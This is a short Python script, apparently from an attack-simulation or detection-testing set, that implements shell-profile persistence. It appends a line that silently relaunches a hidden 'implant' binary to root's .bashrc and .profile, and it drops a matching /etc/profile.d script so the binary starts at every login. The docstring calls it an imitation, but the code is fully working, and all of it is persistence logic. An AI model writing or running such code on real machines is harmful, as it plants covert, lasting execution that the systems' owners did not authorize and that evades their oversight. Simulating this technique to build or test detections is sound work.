#!/usr/bin/env python3
"""Imitates shell-profile persistence: appends a line that restarts the implant to root's .bashrc and
.profile, and drops a profile.d script of its own."""
import os

LINE = '\n# corpus imitation\n(nohup /root/.local/share/.corpus-agent >/dev/null 2>&1 &)\n'
for profile in ('/root/.bashrc', '/root/.profile'):
    with open(profile, 'a') as out:
        out.write(LINE)
os.makedirs('/etc/profile.d', exist_ok=True)
with open('/etc/profile.d/corpus-agent.sh', 'w') as out:
    out.write(LINE)
print('profiles patched')
